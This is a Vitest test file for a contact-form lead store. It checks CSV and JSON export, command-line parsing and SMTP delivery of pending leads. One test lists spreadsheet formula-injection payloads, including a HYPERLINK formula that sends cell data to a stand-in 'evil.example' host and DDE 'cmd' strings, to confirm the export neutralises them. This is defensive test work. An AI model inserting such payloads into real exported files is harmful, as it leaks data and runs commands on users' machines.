// @vitest-environment node
import { execFile } from 'node:child_process';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { payloadFingerprint } from '../../functions/send-contact-email/fingerprint.ts';
import { openNodeLeadStore } from '../../functions/send-contact-email/node.ts';
import type { LeadStore, StoredLead } from '../../functions/send-contact-email/store.ts';
import { csvField, leadsToCsv, parseLeadsCommand } from '../../scripts/leads.ts';
import type { ContactFormPayload, ContactPayload } from '../../schema/contact.ts';
import { smtpEnv } from './support/host.ts';
import { contactFormPayload, photoVideoPackagePayload } from './support/payloads.ts';
import { startSmtpServer } from './support/smtp.ts';

// Every test runs real servers, a SQLite worker thread and SMTP sessions: seconds on a busy machine.
vi.setConfig({ testTimeout: 30_000, hookTimeout: 30_000 });

const run = promisify(execFile);
const TSX = join(process.cwd(), 'node_modules', 'tsx', 'dist', 'cli.mjs');

function runScript(script: string, args: string[], env: Record<string, string> = {}) {
  return run(process.execPath, [TSX, join(process.cwd(), 'scripts', script), ...args], {
    env: { ...process.env, LOG_LEVEL: 'silent', ...env },
  });
}

/** Reads RFC 4180 CSV back into rows, to check that quoting round-trips. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let index = 0; index < text.length; index += 1) {
    const character = text[index];
    if (quoted) {
      if (character === '"' && text[index + 1] === '"') {
        field += '"';
        index += 1;
      } else if (character === '"') quoted = false;
      else field += character;
    } else if (character === '"') quoted = true;
    else if (character === ',') {
      row.push(field);
      field = '';
    } else if (character === '\r' && text[index + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      index += 1;
    } else field += character;
  }
  return rows;
}

const trickyPayload: ContactFormPayload = {
  ...contactFormPayload,
  nome: 'Rossi, Mario',
  azienda: 'Bar "Da Gino"',
  messaggio: 'Prima riga\nseconda riga, con virgola\r\nterza "citata"',
};

function storedLead(payload: ContactPayload, overrides: Partial<StoredLead> = {}): StoredLead {
  return {
    id: '00000000-0000-4000-8000-000000000001',
    receivedAt: '2025-01-15T13:00:01.000Z',
    type: payload.type,
    payload,
    payloadHash: 'hash',
    deliveryStatus: 'delivered',
    attempts: 1,
    nextAttemptAt: null,
    lastAttemptAt: '2025-01-15T13:00:02.000Z',
    lastError: null,
    deliveredAt: '2025-01-15T13:00:02.000Z',
    status: 'new',
    spamReasons: [],
    note: '',
    updatedAt: null,
    ...overrides,
  };
}

describe('CSV export', () => {
  it('quotes only fields with commas, quotes or line breaks, doubling inner quotes', () => {
    expect(csvField('semplice')).toBe('semplice');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('Bar "Da Gino"')).toBe('"Bar ""Da Gino"""');
    expect(csvField('riga\nnuova')).toBe('"riga\nnuova"');
    expect(csvField('')).toBe('');
  });

  it('turns every cell a spreadsheet would run as a formula into text, as a CSV parser reads it back', () => {
    const formulas = [
      '=HYPERLINK("http://evil.example/?x="&A1,"Clicca")',
      "+SUM(1+1)*cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      '@SUM(1+1)',
      '\t=1+1',
      '\r=1+1',
    ] as const;
    const hostile: ContactFormPayload = {
      ...contactFormPayload,
      nome: formulas[0],
      azienda: formulas[1],
      telefono: formulas[2],
      messaggio: formulas[3],
      origine: formulas[4],
    };
    const withCarriageReturn: ContactFormPayload = { ...contactFormPayload, nome: formulas[5] };

    const [, first, second] = parseCsv(leadsToCsv([storedLead(hostile), storedLead(withCarriageReturn)]).slice(1));

    expect(first?.[6]).toBe(`'${formulas[0]}`);
    expect(first?.[8]).toBe(`'${formulas[1]}`);
    expect(first?.[10]).toBe(`'${formulas[2]}`);
    expect(first?.[12]).toBe(`'${formulas[3]}`);
    expect(first?.[13]).toBe(`'${formulas[4]}`);
    expect(second?.[6]).toBe(`'${formulas[5]}`);
    for (const cell of [...(first ?? []), ...(second ?? [])]) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('writes a header row and one row per lead', () => {
    const csv = leadsToCsv([storedLead(trickyPayload)]);

    expect(csv).toBe(
      '\uFEFFid,received_at,type,delivery_status,attempts,delivered_at,nome,cognome,azienda,email,telefono,pacchetto,messaggio,origine,timestamp\r\n' +
        '00000000-0000-4000-8000-000000000001,2025-01-15T13:00:01.000Z,Contatto dal Sito,delivered,1,2025-01-15T13:00:02.000Z,' +
        '"Rossi, Mario",,"Bar ""Da Gino""",anna.neri@example.com,\'+39 030 123 4567,,' +
        '"Prima riga\nseconda riga, con virgola\r\nterza ""citata""",Pagina Contatti - http://localhost:4173/contatti,2025-01-15T13:00:00.000Z\r\n',
    );
    const [header, row] = parseCsv(csv.slice(1));
    expect(header).toHaveLength(15);
    expect(row?.[6]).toBe('Rossi, Mario');
    expect(row?.[8]).toBe('Bar "Da Gino"');
    expect(row?.[12]).toBe(trickyPayload.messaggio);
  });

  it('reads the command line: date-only --until includes that day', () => {
    expect(parseLeadsCommand(['--since', '2025-01-01', '--until', '2025-01-31', '--format', 'json'], {})).toEqual({
      range: { since: new Date('2025-01-01T00:00:00.000Z'), until: new Date('2025-02-01T00:00:00.000Z') },
      format: 'json',
      databaseUrl: 'file:data/leads.db',
    });
    expect(parseLeadsCommand([], { LEADS_DB_URL: 'file:/srv/leads.db' })).toMatchObject({
      range: { since: undefined, until: undefined },
      format: 'csv',
      databaseUrl: 'file:/srv/leads.db',
    });
    expect(() => parseLeadsCommand(['--format', 'xml'], {})).toThrow('--format must be csv or json, not "xml".');
    expect(() => parseLeadsCommand(['--since', '31/01/2025'], {})).toThrow(
      '--since must be a date like 2025-01-31 or a date-time like 2025-01-31T18:00:00Z, not "31/01/2025".',
    );
  });
});

describe('the command-line scripts on a real database', () => {
  let directory: string;
  let databaseUrl: string;
  let store: LeadStore;

  async function insert(payload: ContactPayload, receivedAt: string, deliveryStatus: 'pending' | 'not_configured') {
    const id = crypto.randomUUID();
    await store.insertLead(
      { id, receivedAt: new Date(receivedAt), payload, payloadHash: await payloadFingerprint(payload), deliveryStatus },
      new Date(receivedAt),
    );
    return id;
  }

  beforeEach(async () => {
    directory = await mkdtemp(join(tmpdir(), 'lead-scripts-'));
    databaseUrl = `file:${join(directory, 'leads.db')}`;
    store = await openNodeLeadStore({ url: databaseUrl });
  });

  afterEach(async () => {
    await store.close();
    await rm(directory, { recursive: true, force: true });
  });

  it('npm run leads exports the leads of the requested days as CSV and JSON', async () => {
    await insert(photoVideoPackagePayload, '2024-12-31T23:59:59.000Z', 'pending');
    const inRange = await insert(trickyPayload, '2025-01-15T13:00:01.000Z', 'pending');
    await insert(contactFormPayload, '2025-02-01T00:00:00.000Z', 'pending');
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Clicca")';
    const hostile = await insert({ ...contactFormPayload, nome: formula }, '2025-01-16T09:00:00.000Z', 'pending');

    const csv = await runScript('leads.ts', ['--since', '2025-01-01', '--until', '2025-01-31', '--format', 'csv', '--db', databaseUrl]);
    const json = await runScript('leads.ts', ['--since', '2025-01-01', '--until', '2025-01-31', '--format', 'json'], {
      LEADS_DB_URL: databaseUrl,
    });

    const rows = parseCsv(csv.stdout.replace(/^\uFEFF/, ''));
    expect(rows).toHaveLength(3);
    expect(rows[1]?.[0]).toBe(inRange);
    expect(rows[1]?.[12]).toBe('Prima riga\nseconda riga, con virgola\r\nterza "citata"');
    expect(rows[2]?.[0]).toBe(hostile);
    expect(rows[2]?.[6]).toBe(`'${formula}`);
    expect(JSON.parse(json.stdout)).toEqual([
      {
        id: inRange,
        receivedAt: '2025-01-15T13:00:01.000Z',
        type: 'Contatto dal Sito',
        deliveryStatus: 'pending',
        attempts: 0,
        deliveredAt: null,
        payload: trickyPayload,
      },
      expect.objectContaining({ id: hostile, payload: { ...contactFormPayload, nome: formula } }),
    ]);
  });

  it('npm run leads refuses a database file that does not exist', async () => {
    const missing = `file:${join(directory, 'missing.db')}`;

    await expect(runScript('leads.ts', ['--db', missing])).rejects.toMatchObject({
      code: 2,
      stderr: expect.stringContaining('There is no leads database at'),
    });
  });

  it('npm run deliver:pending mails the waiting leads once', async () => {
    const kept = await insert(contactFormPayload, '2025-01-15T13:00:01.000Z', 'not_configured');
    const retryLater = await insert(photoVideoPackagePayload, '2025-01-15T13:00:02.000Z', 'pending');
    const [claimed] = await store.claimDueLeads({ now: new Date(), claimDurationMs: 1, limit: 1, leadId: retryLater });
    await store.markFailed(retryLater, claimed?.claimToken ?? '', {
      at: new Date(),
      error: 'ECONNECTION: refused',
      nextAttemptAt: new Date(Date.now() + 3_600_000),
    });
    const smtp = await startSmtpServer();
    try {
      const env = { ...smtpEnv(smtp.port), LEADS_DB_URL: databaseUrl };

      const scheduled = await runScript('deliver-pending.ts', [], env);
      const forced = await runScript('deliver-pending.ts', ['--now'], env);

      expect(scheduled.stdout).toContain('Delivered 1, failed 0; still waiting: 1 pending, 0 kept without SMTP.');
      expect(forced.stdout).toContain('Delivered 1, failed 0; still waiting: 0 pending, 0 kept without SMTP.');
      expect(smtp.messages.map((mail) => mail.subject)).toEqual([
        '[Sito] Contatto dal Sito – Anna Neri',
        '[Sito] Richiesta Pacchetto Foto/Video – Marco Rossi',
      ]);
      expect((await store.getLead(kept))?.deliveryStatus).toBe('delivered');
      expect((await store.getLead(retryLater))?.attempts).toBe(2);
    } finally {
      await smtp.close();
    }
  });
});
